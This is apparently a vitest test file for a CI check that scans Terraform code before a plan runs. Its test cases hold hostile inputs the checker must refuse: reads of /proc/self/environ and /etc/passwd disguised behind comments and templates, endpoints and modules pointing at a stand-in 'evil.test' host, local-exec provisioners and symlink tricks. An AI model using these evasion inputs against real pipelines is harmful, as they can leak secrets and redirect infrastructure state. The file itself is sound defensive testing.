import { mkdir, symlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { checkCode } from "../../../ci/terraform/check-code.js";
import { hashCode, readCode } from "../../../ci/terraform/code.js";
import { ROOT } from "../../tools/find-tool.js";
import { expectError, expectErrors } from "../fixtures/errors.js";
import { makeTemporaryFolder } from "../fixtures/temporary.js";

const wrap = (block: string, text: string) => `${block} {\n${text}\n}`;
const writeBackend = (text: string) => wrap("terraform", wrap('backend "s3"', text));
const requireProvider = (text: string) => wrap("terraform", wrap("required_providers", text));
const SAFE = "encrypt = true\nuse_lockfile = true";
const BACKEND = writeBackend(SAFE);
const PROVISIONER = wrap('provisioner "local-exec"', 'command = "id"');

/** A repository whose `terraform/` holds these files, beside a backend. */
async function makeRoot(files: Record<string, string>): Promise<string> {
  const root = await makeTemporaryFolder();
  for (const [path, text] of Object.entries({ ".terraform.lock.hcl": "", "backend.tf": BACKEND, ...files })) {
    await mkdir(join(root, "terraform", path, ".."), { recursive: true });
    await writeFile(join(root, "terraform", path), text);
  }
  return root;
}

async function check(files: Record<string, string>): Promise<void> {
  await checkCode(await readCode(await makeRoot(files)));
}

describe("the scan of the code", () => {
  it("lets the repository's own code pass", async () => {
    const code = await readCode(ROOT);
    expect(code.files.length).toBeGreaterThan(10);
    await checkCode(code);
  });

  it("lets import blocks with literal ids pass", async () => {
    const block = 'import {\n  to = aws_organizations_account.this["a/b"]\n  id = "111122223333"\n}\n';
    const elsewhere =
      'import {\n  provider = aws.public_ecr\n  to = aws_ecrpublic_repository.this["x"]\n  id = "x"\n}\n';
    await check({ "imports.tf": `# Written by adopt.\n${block}${elsewhere}` });
  });

  it.each([
    ["an external data source", 'data "external" "x" {\n  program = ["id"]\n}'],
    ["an external data source in a check", wrap('check "x"', 'data "external" "y" {\n    program = ["id"]\n  }')],
    ["a provisioner", wrap('resource "aws_s3_bucket" "x"', PROVISIONER)],
    ["a provisioner of what is removed", wrap("removed", `from = aws_s3_bucket.x\n${PROVISIONER}`)],
    ["a resource without a provider", 'resource "terraform_data" "x" {}'],
    ["another provider's resource", 'resource "random_id" "x" {}'],
    ["another provider by alias", 'resource "aws_x" "x" {\n  provider = http.foo\n}'],
    ["a required provider", requireProvider('http = { source = "hashicorp/http" }')],
    ["a provider of another source", requireProvider('aws = { source = "evil/aws" }')],
    ["a provider's version without its source", requireProvider('null = "1.0"')],
    ["a provider block", 'provider "http" {}'],
    ["an endpoint", 'provider "aws" {\n  endpoints {\n    sts = "https://evil.test"\n  }\n}'],
    ["credentials in a provider", 'provider "aws" {\n  access_key = "x"\n}'],
    ["a remote module", 'module "x" {\n  source = "git::https://evil.test/x"\n}'],
    ["a local module", 'module "x" {\n  source = "./x"\n}'],
    ["an action", 'action "aws_lambda_invoke" "x" {}'],
    ["an ephemeral resource", 'ephemeral "aws_secretsmanager_secret_version" "x" {}'],
    ["a backend of another host", writeBackend(`${SAFE}\nendpoints = { s3 = "https://evil.test" }`)],
    ["a backend without a lock", writeBackend("encrypt = true")],
    ["a backend without encryption", writeBackend(SAFE.replace("encrypt = true", "encrypt = false"))],
    ["a cloud block", "terraform {\n  cloud {}\n}"],
    ["a timestamp", 'output "x" {\n  value = timestamp()\n}'],
    ["a uuid deep inside", 'locals {\n  x = { a = ["${join("-", [uuid()])}"] }\n}'],
    ["a file elsewhere", 'locals {\n  x = file("/proc/self/environ")\n}'],
    ["a file above", 'locals {\n  x = file("${path.module}/../secret")\n}'],
    ["a file behind a comment", 'locals {\n  x = file/* "${path.module}/a.json" */("/proc/self/environ")\n}'],
    ["a file behind a line's comment", 'locals {\n  x = (file # "${path.module}/a.json"\n  ("/proc/self/environ"))\n}'],
    ["a file by its function's whole name", 'locals {\n  x = core::file("/proc/self/environ")\n}'],
    ["a file whose path is filled in to its end", 'locals {\n  x = file("${path.module}/${var.x}")\n}'],
    [
      "a file after an innocent one",
      wrap("locals", 'x = file("${path.module}/a.json")\n  y = file("${path.module}/${var.x}")'),
    ],
    ["a path put together", 'locals {\n  x = file("${path.module}/a.json" == "" ? "" : "/proc/self/environ")\n}'],
    ["a file between comments", 'locals {\n  x = templatefile(/**/ "/etc/passwd", /**/ "${path.module}/a.json")\n}'],
    ["a file in a key", 'locals {\n  x = { (file("/proc/self/environ")) = 1 }\n}'],
    ["a file in a template's condition", 'locals {\n  x = "%{if file("/etc/passwd") == ""}x%{endif}"\n}'],
    ["a timestamp behind a comment", 'output "x" {\n  value = timestamp/* */()\n}'],
    ["a template elsewhere", 'locals {\n  x = templatefile("/etc/passwd", {})\n}'],
  ])("refuses %s", async (_, text) => {
    const error = await expectError("code-forbidden", () => check({ "main.tf": text }));
    expect(error.subject).toBe("terraform/main.tf");
    expect(error.message).toContain("Terraform was not started");
  });

  it("refuses code without a backend: its state would be lost with the environment", async () => {
    const error = await expectError("code-forbidden", () =>
      check({ "backend.tf": "locals {}", "backend.tf.md": BACKEND }),
    );
    expect(error.subject).toBe("terraform/");
  });

  it("says all that is wrong with another backend", async () => {
    const codes = ["code-forbidden", "code-forbidden", "code-forbidden"] as const;
    await expectErrors([...codes], () => check({ "main.tf": 'terraform {\n  backend "http" {}\n}' }));
  });

  it.each(["main.tf.json", "override.tf", "main_override.tf", "main.tofu"])("refuses the file %s", async (path) => {
    await expectError("code-forbidden", () => check({ [path]: "" }));
  });

  it("refuses a link, and says everything at once", async () => {
    const root = await makeRoot({ "main.tf": "" });
    await symlink("/etc/passwd", join(root, "terraform", "link.tf"));
    await expectError("code-forbidden", () => readCode(root));
    await expectErrors(["code-forbidden", "code-unreadable", "code-forbidden"], () =>
      check({ "a.tf": 'module "x" {}', "b.tf": "resource {", "c.tf": 'provider "http" {}' }),
    );
  });

  it("lets the code's own files be read, however the call is written", async () => {
    const calls = ['file("${path.module}/a.json")', 'file( /* a */\n"${path.module}/policies/${each.key}.json" # b\n)'];
    for (const call of calls) await check({ "main.tf": `locals {\n  x = ${call}\n}` });
  });

  it("is not misled by what only looks like a block, nor by a name that objects have already", async () => {
    await check({
      "main.tf": 'locals {\n  x = <<-EOT\n    module "x" {}\n    data "external" "y" {}\n  EOT\n}\n# module "x" {}\n',
    });
    await expectError("code-forbidden", () => check({ "main.tf": 'constructor "x" {}' }));
    await expectError("code-forbidden", () => check({ "main.tf": 'resource "__proto__" "x" {}' }));
  });
});

describe("the hash of the code", () => {
  it("changes with every file that a plan reads, with its name and with the lock file, not with tests and documents", async () => {
    const hash = async (files: Record<string, string>) => hashCode(await readCode(await makeRoot(files)));
    const base = await hash({ "a.tf": "x" });
    expect(await hash({ "a.tf": "x", "tests/b.tftest.hcl": "x", "README.md": "x" })).toEqual(base);
    const others = [
      { "a.tf": "y" },
      { "b.tf": "x" },
      { "a.tf": "x", "policies/a.json": "{}" },
      { "a.tf": "x", "b.tf": "" },
    ];
    const hashes = await Promise.all(others.map(hash));
    expect(new Set([base.code, ...hashes.map(({ code }) => code)]).size).toBe(others.length + 1);
    const locked = await hash({ "a.tf": "x", ".terraform.lock.hcl": "x" });
    expect(locked.code).toBe(base.code);
    expect(locked.lock).not.toBe(base.lock);
  });
});

describe("code that is a bomb", () => {
  const nest = (depth: number) => `locals {\n  x = ${"[".repeat(depth)}${"]".repeat(depth)}\n}\n`;

  it("is refused where it is nested deeper than anybody writes", async () => {
    await check({ "main.tf": nest(190) });
    const error = await expectError("code-unreadable", () => check({ "main.tf": nest(100_000) }));
    expect(error.message).toContain("nested deeper than 200");
  });
});
